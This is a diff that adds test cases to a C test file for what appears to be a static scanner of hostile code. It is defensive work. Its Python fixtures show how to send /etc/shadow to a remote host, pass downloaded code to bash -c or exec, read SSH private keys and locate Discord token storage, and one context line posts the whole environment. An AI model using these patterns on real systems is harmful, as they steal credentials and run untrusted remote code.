@@ -42,6 +42,21 @@ static const struct { const char *name, *rule; int language; const char *code; }
 	{ "what parses is read once", "!any/syntax-error", BAWN_LANG_BASH, "if [ 1 ]; then\n  true\nfi\n" },
 	{ "one variable is not the whole environment", "!javascript/send-environment", JS, "fetch('https://example.com', { headers: { a: process.env.TOKEN } });\n" },
 	{ "the whole environment is", "javascript/send-environment", JS, "fetch('http://198.51.100.7', { method: 'POST', body: JSON.stringify(process.env) });\n" },
+	{ "a file that came from the network, run by a list of words", "any/run-download", PY, "import requests, subprocess\nopen('t', 'wb').write(requests.get('https://example.com').content)\nsubprocess.run(['t'])\n" },
+	{ "a file that came from the network, given to an interpreter", "any/run-download", PY, "import urllib.request, subprocess\nurllib.request.urlretrieve('https://example.com', 't.py')\nsubprocess.run(['python3', 't.py'])\n" },
+	{ "a file that came from the network, loaded as a module", "any/run-download", PY, "import urllib.request, importlib.util\nurllib.request.urlretrieve('https://example.com', 'm.py')\nimportlib.util.spec_from_file_location('m', 'm.py')\n" },
+	{ "a document from the network may be opened", "!any/run-download", PY, "import os, requests\nopen('a.pdf', 'wb').write(requests.get('https://example.com').content)\nos.startfile('a.pdf')\n" },
+	{ "a copy holds what the file held", "python/send-secret", PY, "import shutil, requests\nshutil.copy('/etc/shadow', 'x')\nrequests.post('https://example.com', data=open('x').read())\n" },
+	{ "an archive in memory holds what was added", "python/send-secret", PY, "import io, tarfile, requests\nb = io.BytesIO()\nt = tarfile.open(fileobj=b, mode='w')\nt.add('/etc/shadow')\nrequests.post('https://example.com', data=b.getvalue())\n" },
+	{ "what a generator yields", "python/send-secret", PY, "import requests\ndef g():\n    yield open('/etc/shadow').read()\nfor x in g():\n    requests.post('https://example.com', data=x)\n" },
+	{ "a word from the network is an argument, not the program", "!bash/shell-of-download", PY, "import requests, subprocess, sys\nv = requests.get('https://example.com').text\nsubprocess.run([sys.executable, '-m', 'pip', 'install', 'x==' + v])\nsubprocess.run(['python3', 'a.py', v])\n" },
+	{ "but not after -c", "bash/shell-of-download", PY, "import requests, subprocess\nsubprocess.run(['bash', '-c', requests.get('https://example.com').text])\n" },
+	{ "a program that is written down", "python/exec-network", PY, "f = open('a.py', 'w')\nf.write('import urllib.request\\nexec(urllib.request.urlopen(\"https://example.com\").read())\\n')\n" },
+	{ "a text that is written down", "!python/exec-network", PY, "f = open('a.txt', 'w')\nf.write('call exec(urllib.request.urlopen(x).read())')\n" },
+	{ "what is seen only later counts", "python/install-network", PY, "import requests\nrequests.get('https://example.com')\nfrom setuptools import setup\nsetup(name='x')\n" },
+	{ "a module keeps nothing", "!any/run-download", PY, "import shutil, requests, subprocess\nshutil.copyfileobj(requests.get('https://example.com').raw, f)\nsubprocess.run([shutil.which('git'), 'log'])\n" },
+	{ "a path divided by a text is a path", "any/secret-read", PY, "def f(home):\n    return (home / '.ssh' / 'id_rsa').read_text()\n" },
+	{ "a path with backslashes", "any/browser-data", PY, "import os\nos.listdir(os.getenv('APPDATA') + '\\\\discord\\\\Local Storage\\\\leveldb')\n" },
 };
 
 static bool is_it(const struct bawn_finding *f, const char *rule)
